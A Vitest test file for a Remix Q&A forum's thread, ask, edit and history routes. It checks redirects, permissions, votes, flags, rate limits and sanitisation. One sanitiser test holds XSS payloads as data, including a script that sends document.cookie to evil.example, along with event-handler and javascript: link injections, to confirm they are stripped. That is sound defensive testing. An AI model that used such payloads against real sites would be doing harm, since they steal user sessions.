// The thread page, the ask page and the edit and history pages, called the
// way Remix calls them: a real Request, params, and the load context the
// server builds, on a real migrated database.
import { and, eq } from "drizzle-orm";
import { beforeAll, describe, expect, test } from "vitest";
import { getThread } from "../../app/models/forum/thread.server";
import { action as askAction, loader as askLoader } from "../../app/routes/ask";
import { action as editAction, loader as editLoader } from "../../app/routes/posts.$id.edit";
import { loader as historyLoader } from "../../app/routes/posts.$id.history";
import ThreadPage, { action as threadAction, loader as threadLoader } from "../../app/routes/t.$id.($slug)";
import { flags, posts, threads, users, votes } from "../../db/schema";
import { contextFor, createTestDb, formRequest, getRequest, personForm, settle } from "../support/db";
import { createEstablishedMember, createTestAnswer, createTestCategory, createTestComment, createTestThread, createUser } from "../support/factories";
import { bodyOf } from "../support/http-helpers";
import { renderPage } from "../support/render-page";

const db = createTestDb();
type User = Awaited<ReturnType<typeof createUser>>;
type Reply = { intent?: string; postId?: number; errors?: Record<string, string>; values?: Record<string, string>; previewHtml?: string };

const DAY = 24 * 60 * 60 * 1000;
/** An established member: two days old, with the reputation to vote and comment. */
function member(overrides: Parameters<typeof createUser>[1] = {}) {
  return createEstablishedMember(db, overrides);
}

// Factory posts are dated in the past, so a route posting "now" is never held back by them.
let clock = Date.now() - DAY;
const tick = () => new Date((clock += 60_000));

function viewThread(id: string, slug: string | undefined, userId: number | null = null) {
  const path = slug === undefined ? `/t/${id}` : `/t/${id}/${slug}`;
  return settle(() => threadLoader({ request: getRequest(path), params: { id, slug }, context: contextFor(db, userId) }));
}

function postToThread(thread: { id: number; slug: string }, fields: Record<string, string>, userId: number | null) {
  const path = `/t/${thread.id}/${thread.slug}`;
  return settle(() =>
    threadAction({ request: formRequest(path, fields), params: { id: String(thread.id), slug: thread.slug }, context: contextFor(db, userId) }),
  );
}

function ask(fields: Record<string, string>, userId: number | null) {
  return settle(() => askAction({ request: formRequest("/ask", personForm(db, fields)), params: {}, context: contextFor(db, userId) }));
}

function questionIdOf(threadId: number) {
  return db.select().from(posts).where(and(eq(posts.threadId, threadId), eq(posts.kind, "question"))).get()!.id;
}
function answersOf(threadId: number) {
  return db.select().from(posts).where(and(eq(posts.threadId, threadId), eq(posts.kind, "answer"))).all();
}
function threadCount() {
  return db.select().from(threads).all().length;
}

let asker: User;
let helper: User;
let other: User;
let mod: User;

beforeAll(async () => {
  createTestCategory(db, { slug: "billing", name: "Billing" });
  asker = await member();
  helper = await member();
  other = await member();
  mod = await member({ role: "moderator" });
});

describe("thread page loader", () => {
  test("a wrong or missing slug is a permanent redirect to the canonical address", async () => {
    const thread = createTestThread(db, asker, { title: "Why was I charged twice in May?", at: tick() });
    expect(thread.slug).toBe("why-was-i-charged-twice-in-may");
    for (const slug of ["old-title", undefined, "WHY-WAS-I-CHARGED-TWICE-IN-MAY"]) {
      const response = await viewThread(String(thread.id), slug);
      expect(response.status).toBe(301);
      expect(response.headers.get("Location")).toBe(`/t/${thread.id}/why-was-i-charged-twice-in-may`);
    }
    const ok = await viewThread(String(thread.id), thread.slug);
    expect(ok.status).toBe(200);
    const data = await bodyOf(ok);
    expect(data.thread).toMatchObject({ id: thread.id, title: "Why was I charged twice in May?", answerCount: 0, deleted: false });
  });

  test("a non-numeric, negative or unknown id is a 404", async () => {
    for (const id of ["abc", "12abc", "-3", "0", "1.5", "99999999"]) {
      const response = await viewThread(id, "anything");
      expect(response.status, id).toBe(404);
    }
  });

  test("a deleted question is a 404 for members and visitors, and shown to moderators", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    await postToThread(thread, { intent: "delete", postId: String(questionIdOf(thread.id)) }, asker.id);
    expect(getThread(db, thread.id)!.deletedAt).not.toBeNull();
    expect((await viewThread(String(thread.id), thread.slug, asker.id)).status).toBe(404);
    expect((await viewThread(String(thread.id), thread.slug, null)).status).toBe(404);
    const staff = await viewThread(String(thread.id), thread.slug, mod.id);
    expect(staff.status).toBe(200);
    expect((await bodyOf(staff)).thread.deleted).toBe(true);
  });

  test("a hostile question body reaches the page harmless", async () => {
    const body = [
      "Look: <script>document.location='https://evil.example/?c='+document.cookie</script>",
      '<img src=x onerror="alert(1)"> <svg onload=alert(1)></svg>',
      "[click me](javascript:alert(1)) [or me](&#x6A;avascript:alert(1))",
      '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=p></form>',
      '<p style="position:fixed">x</p>',
    ].join("\n\n");
    const thread = createTestThread(db, asker, { body, at: tick() });
    const data = await bodyOf(await viewThread(String(thread.id), thread.slug));
    const html = String(data.question.bodyHtml).toLowerCase();
    for (const bad of ["<script", "onerror", "onload", "javascript:", "<svg", "<iframe", "<form", "<input", "style="]) {
      expect(html).not.toContain(bad);
    }
    expect(html).toContain("click me");
    expect(String(data.description).toLowerCase()).not.toContain("<script");
  });

  test("answers come accepted first, then by score, with the viewer's own votes and permissions", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    const first = createTestAnswer(db, helper, thread.id, undefined, tick());
    const second = createTestAnswer(db, other, thread.id, undefined, tick());
    expect((await postToThread(thread, { intent: "vote", postId: String(second.id), direction: "up" }, asker.id)).status).toBe(302);
    const data = await bodyOf(await viewThread(String(thread.id), thread.slug, asker.id));
    expect(data.answers.map((a: { id: number }) => a.id)).toEqual([second.id, first.id]);
    expect(data.myVotes).toEqual({ [second.id]: 1 });
    // Only what is granted is sent: a refused permission is absent.
    expect(data.answers[0].can).toMatchObject({ accept: true, vote: true });
    for (const refused of ["edit", "delete"]) expect(data.answers[0].can).not.toHaveProperty(refused);
    expect(data.question.can).toMatchObject({ edit: true });
    for (const refused of ["vote", "delete"]) expect(data.question.can).not.toHaveProperty(refused);

    await postToThread(thread, { intent: "accept", postId: String(first.id) }, asker.id);
    const after = await bodyOf(await viewThread(String(thread.id), thread.slug, null));
    expect(after.thread.acceptedAnswerId).toBe(first.id);
    expect(after.answers.map((a: { id: number }) => a.id)).toEqual([first.id, second.id]);
    expect(after.signedIn).toBe(false);
    expect(after.canAnswer).toBe(false);
  });
});

describe("thread page actions", () => {
  test("a visitor's answer is sent to sign in and nothing is saved", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    const response = await postToThread(thread, { intent: "answer", body: "A visitor's answer, long enough to pass." }, null);
    expect(response.status).toBe(302);
    const location = response.headers.get("Location")!;
    expect(location.startsWith("/login")).toBe(true);
    expect(new URL(location, "http://localhost").searchParams.get("redirectTo")).toBe(`/t/${thread.id}/${thread.slug}`);
    expect(answersOf(thread.id)).toEqual([]);
  });

  test("an answer that is too short is a 400 with the error and the typed text kept", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    const answerer = await member();
    const response = await postToThread(thread, { intent: "answer", body: "  Try again  " }, answerer.id);
    expect(response.status).toBe(400);
    const reply = await bodyOf<Reply>(response);
    expect(reply.intent).toBe("answer");
    expect(reply.errors?.body).toMatch(/at least 20 characters/);
    expect(reply.values?.body).toBe("  Try again  ");
    expect(answersOf(thread.id)).toEqual([]);
  });

  test("a good answer is saved and redirects to it", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    const answerer = await member();
    const response = await postToThread(thread, { intent: "answer", body: "Switch the **billing date** in your account settings." }, answerer.id);
    expect(response.status).toBe(302);
    const [saved] = answersOf(thread.id);
    expect(saved?.authorId).toBe(answerer.id);
    expect(saved?.bodyHtml).toContain("<strong>billing date</strong>");
    expect(response.headers.get("Location")).toBe(`/t/${thread.id}/${thread.slug}#post-${saved!.id}`);
    expect(getThread(db, thread.id)!.answerCount).toBe(1);
  });

  test("an answer held back by the posting limit keeps its text (429)", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    const newcomer = await createUser(db);
    expect((await postToThread(thread, { intent: "answer", body: "My first answer on this forum, hello." }, newcomer.id)).status).toBe(302);
    const response = await postToThread(thread, { intent: "answer", body: "My second answer, right after the first." }, newcomer.id);
    expect(response.status).toBe(429);
    const reply = await bodyOf<Reply>(response);
    expect(reply.errors?.form).toMatch(/^You can post another answer in \d+ seconds\./);
    expect(reply.values?.body).toBe("My second answer, right after the first.");
    expect(answersOf(thread.id)).toHaveLength(1);
  });

  test("a comment that is too short is a 400 naming its post; a good one is saved", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    const questionId = questionIdOf(thread.id);
    const bad = await postToThread(thread, { intent: "comment", postId: String(questionId), comment: "x" }, helper.id);
    expect(bad.status).toBe(400);
    const reply = await bodyOf<Reply>(bad);
    expect(reply).toMatchObject({ intent: "comment", postId: questionId, values: { comment: "x" } });
    expect(reply.errors?.comment).toBeTruthy();

    const good = await postToThread(thread, { intent: "comment", postId: String(questionId), comment: "Which *bank* is it?" }, helper.id);
    expect(good.status).toBe(302);
    const comment = db.select().from(posts).where(and(eq(posts.threadId, thread.id), eq(posts.kind, "comment"))).get()!;
    expect(comment).toMatchObject({ parentId: questionId, authorId: helper.id, bodyHtml: "Which <em>bank</em> is it?" });
  });

  test("votes: a visitor is sent to sign in, a member's vote counts, voting on your own post is a 403", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    const questionId = questionIdOf(thread.id);
    const visitor = await postToThread(thread, { intent: "vote", postId: String(questionId), direction: "up" }, null);
    expect(visitor.status).toBe(302);
    expect(visitor.headers.get("Location")).toMatch(/^\/login/);

    const ok = await postToThread(thread, { intent: "vote", postId: String(questionId), direction: "up" }, helper.id);
    expect(ok.status).toBe(302);
    expect(ok.headers.get("Location")).toBe(`/t/${thread.id}/${thread.slug}#post-${questionId}`);
    expect(getThread(db, thread.id)!.score).toBe(1);

    expect((await postToThread(thread, { intent: "vote", postId: String(questionId), direction: "up" }, asker.id)).status).toBe(403);
    expect((await postToThread(thread, { intent: "vote", postId: String(questionId), direction: "sideways" }, helper.id)).status).toBe(400);
    expect(db.select().from(votes).where(eq(votes.postId, questionId)).all()).toEqual([{ postId: questionId, userId: helper.id, value: 1, createdAt: expect.any(Date) }]);
  });

  test("accepting, unaccepting, deleting and restoring are refused to the wrong people", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    const answer = createTestAnswer(db, helper, thread.id, undefined, tick());
    const postId = String(answer.id);
    expect((await postToThread(thread, { intent: "accept", postId }, other.id)).status).toBe(403);
    expect(getThread(db, thread.id)!.acceptedAnswerId).toBeNull();
    expect((await postToThread(thread, { intent: "accept", postId }, asker.id)).status).toBe(302);
    expect(getThread(db, thread.id)!.acceptedAnswerId).toBe(answer.id);
    expect((await postToThread(thread, { intent: "unaccept", postId }, other.id)).status).toBe(403);
    expect((await postToThread(thread, { intent: "unaccept", postId }, asker.id)).status).toBe(302);
    expect(getThread(db, thread.id)!.acceptedAnswerId).toBeNull();

    expect((await postToThread(thread, { intent: "delete", postId }, other.id)).status).toBe(403);
    expect((await postToThread(thread, { intent: "delete", postId: String(questionIdOf(thread.id)) }, asker.id)).status).toBe(403);
    expect(getThread(db, thread.id)!.deletedAt).toBeNull();
    expect((await postToThread(thread, { intent: "delete", postId }, helper.id)).status).toBe(302);
    expect(getThread(db, thread.id)!.answerCount).toBe(0);
    expect((await postToThread(thread, { intent: "restore", postId }, helper.id)).status).toBe(404);
    expect((await postToThread(thread, { intent: "restore", postId }, mod.id)).status).toBe(302);
    expect(getThread(db, thread.id)!.answerCount).toBe(1);
  });

  test("a question's author deleting it goes home", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    const response = await postToThread(thread, { intent: "delete", postId: String(questionIdOf(thread.id)) }, asker.id);
    expect(response.status).toBe(302);
    expect(response.headers.get("Location")).toBe("/");
  });

  test("flagging twice is a 409 with a message; flagging needs a reason", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    const postId = String(questionIdOf(thread.id));
    const noReason = await postToThread(thread, { intent: "flag", postId, reason: "" }, helper.id);
    expect(noReason.status).toBe(400);
    expect((await bodyOf<Reply>(noReason)).errors?.reason).toBeTruthy();
    expect((await postToThread(thread, { intent: "flag", postId, reason: "spam" }, helper.id)).status).toBe(302);
    const again = await postToThread(thread, { intent: "flag", postId, reason: "spam" }, helper.id);
    expect(again.status).toBe(409);
    expect((await bodyOf<Reply>(again)).errors?.form).toMatch(/already flagged/i);
    expect(db.select().from(flags).where(eq(flags.postId, Number(postId))).all()).toHaveLength(1);
    expect((await postToThread(thread, { intent: "flag", postId, reason: "spam" }, asker.id)).status).toBe(403);
  });

  test("an unknown intent or a missing post id is a 400", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    expect((await postToThread(thread, { intent: "explode" }, helper.id)).status).toBe(400);
    expect((await postToThread(thread, { intent: "accept" }, asker.id)).status).toBe(400);
    expect((await postToThread(thread, { intent: "accept", postId: "abc" }, asker.id)).status).toBe(400);
  });
});

describe("ask", () => {
  test("a visitor may look for answers but is sent to sign in to post", async () => {
    const page = await settle(() => askLoader({ request: getRequest("/ask"), params: {}, context: contextFor(db, null) }));
    expect(page.status).toBe(200);
    expect(await bodyOf(page)).toMatchObject({ signedIn: false, similar: [] });
    const posted = await ask({ title: "A visitor's question title", body: "A visitor's question body, long enough.", category: "billing" }, null);
    expect(posted.status).toBe(302);
    expect(posted.headers.get("Location")).toMatch(/^\/login/);
    for (const intent of ["preview", "post"]) {
      expect((await ask({ intent, title: "A visitor's question title", body: "Long enough body text here.", category: "billing" }, null)).headers.get("Location")).toMatch(/^\/login/);
    }
  });

  test("a bad title is a 400 that keeps the title, body and tags typed, and saves nothing", async () => {
    const user = await member();
    const before = threadCount();
    const fields = { intent: "post", title: "Help", body: "My invoice shows a charge I don't recognise.", category: "billing", tags: "invoice, Refund" };
    const response = await ask(fields, user.id);
    expect(response.status).toBe(400);
    const reply = await bodyOf<Reply>(response);
    expect(reply.errors?.title).toMatch(/at least 15 characters/);
    expect(reply.values).toMatchObject({ title: "Help", body: fields.body, tags: "invoice, Refund", category: "billing" });
    expect(threadCount()).toBe(before);
  });

  test("an unknown category is a 400 on the category field", async () => {
    const user = await member();
    const response = await ask({ title: "Where is my latest invoice?", body: "It is not in my account page.", category: "nope" }, user.id);
    expect(response.status).toBe(400);
    const reply = await bodyOf<Reply>(response);
    expect(reply.errors?.category).toBeTruthy();
    expect(reply.values?.title).toBe("Where is my latest invoice?");
  });

  test("a good question redirects to its new thread, with tags lower-cased", async () => {
    const user = await member();
    const response = await ask(
      { intent: "post", title: "Mon prélèvement a échoué deux fois", body: "The direct debit failed in March and April.", category: "billing", tags: "Direct-Debit invoice" },
      user.id,
    );
    expect(response.status).toBe(302);
    const created = db.select().from(threads).where(eq(threads.authorId, user.id)).get()!;
    expect(created.slug).toBe("mon-prelevement-a-echoue-deux-fois");
    expect(response.headers.get("Location")).toBe(`/t/${created.id}/mon-prelevement-a-echoue-deux-fois`);
    const page = await bodyOf(await viewThread(String(created.id), created.slug));
    expect(page.tags).toEqual(["direct-debit", "invoice"]);
  });

  test("preview returns the rendered, sanitized HTML and creates nothing", async () => {
    const user = await member();
    const before = threadCount();
    const response = await ask(
      { intent: "preview", title: "x", body: "**bold** <script>alert(1)</script> [a](javascript:alert(1))", category: "billing", tags: "" },
      user.id,
    );
    expect(response.status).toBe(200);
    const reply = await bodyOf<Reply>(response);
    expect(reply.previewHtml).toContain("<strong>bold</strong>");
    expect(reply.previewHtml!.toLowerCase()).not.toMatch(/<script|javascript:/);
    expect(reply.values).toMatchObject({ title: "x", category: "billing" });
    expect(threadCount()).toBe(before);
  });

  test("a new account asking twice within two minutes gets a 429 that keeps the text", async () => {
    const newcomer = await createUser(db);
    const first = { title: "First question from a new account", body: "The very first question I ask here.", category: "billing", tags: "", checked: "1" };
    expect((await ask(first, newcomer.id)).status).toBe(302);
    const second = { title: "Second question from a new account", body: "Asked right after the first one.", category: "billing", tags: "wifi", checked: "1" };
    const response = await ask(second, newcomer.id);
    expect(response.status).toBe(429);
    const reply = await bodyOf<Reply>(response);
    expect(reply.errors?.form).toMatch(/^You can post another question in (2 minutes|1 minute( \d+ seconds?)?)\. New accounts/);
    expect(reply.values).toMatchObject({ title: second.title, body: second.body, tags: "wifi" });
    expect(db.select().from(threads).where(eq(threads.authorId, newcomer.id)).all()).toHaveLength(1);
  });
});

describe("edit and history pages", () => {
  function edit(postId: number, fields: Record<string, string>, userId: number | null) {
    return settle(() =>
      editAction({ request: formRequest(`/posts/${postId}/edit`, fields), params: { id: String(postId) }, context: contextFor(db, userId) }),
    );
  }

  test("a member cannot open or save an edit of someone else's answer; a moderator can", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    const answer = createTestAnswer(db, helper, thread.id, "The original answer text, unchanged.", tick());
    const load = await settle(() => editLoader({ request: getRequest(`/posts/${answer.id}/edit`), params: { id: String(answer.id) }, context: contextFor(db, other.id) }));
    expect(load.status).toBe(403);
    expect((await edit(answer.id, { body: "Someone else's rewrite of the answer.", reason: "" }, other.id)).status).toBe(403);
    expect(db.select().from(posts).where(eq(posts.id, answer.id)).get()!.body).toBe("The original answer text, unchanged.");

    const saved = await edit(answer.id, { body: "The answer, tidied up by a moderator.", reason: "Tidied" }, mod.id);
    expect(saved.status).toBe(302);
    expect(saved.headers.get("Location")).toBe(`/t/${thread.id}/${thread.slug}#post-${answer.id}`);

    const history = await bodyOf(
      await settle(() => historyLoader({ request: getRequest(`/posts/${answer.id}/history`), params: { id: String(answer.id) }, context: contextFor(db, null) })),
    );
    expect(history.versions.map((v: { body: string }) => v.body)).toEqual(["The answer, tidied up by a moderator.", "The original answer text, unchanged."]);
    expect(history.versions[0]).toMatchObject({ editorUsername: mod.username, reason: "Tidied" });
  });

  test("a too-short edit keeps the typed text and saves nothing", async () => {
    const thread = createTestThread(db, asker, { at: tick() });
    const before = db.select().from(posts).where(eq(posts.id, questionIdOf(thread.id))).get()!;
    const response = await edit(before.id, { title: "Short", body: "Too short", tags: "x", reason: "" }, asker.id);
    expect(response.status).toBe(400);
    const reply = await bodyOf<Reply>(response);
    expect(reply.errors).toMatchObject({ title: expect.any(String), body: expect.any(String) });
    expect(reply.values).toMatchObject({ title: "Short", body: "Too short", tags: "x" });
    expect(db.select().from(posts).where(eq(posts.id, before.id)).get()!.body).toBe(before.body);
  });
});

describe("the thread page as sent", () => {
  test("every author's name carries reputation and rank, comments' authors too", async () => {
    const commenter = await member({ displayName: "Cora Commenter" });
    const thread = createTestThread(db, asker, { title: "Which cable for the fibre box?", at: tick() });
    const answer = createTestAnswer(db, helper, thread.id, "The short grey one that came in the box.", tick());
    createTestComment(db, commenter, answer.id, "Mine had a white one, same thing?", tick());
    const page = await renderPage(contextFor(db), `/t/${thread.id}/${thread.slug}`, [
      { id: "routes/t.$id.($slug)", path: "t/:id/:slug?", loader: threadLoader, Component: ThreadPage },
    ]);
    expect(page.status).toBe(200);
    const comment = page.html.slice(page.html.indexOf("Mine had a white one"));
    const author = comment.slice(comment.indexOf("Cora Commenter"), comment.indexOf("</span></span>") + 14);
    const total = db.select({ reputation: users.reputation }).from(users).where(eq(users.id, commenter.id)).get()!.reputation;
    expect(author).toContain(`reputation </span>${total}</span><span class="rank-name">Contributor</span>`);
  });
});
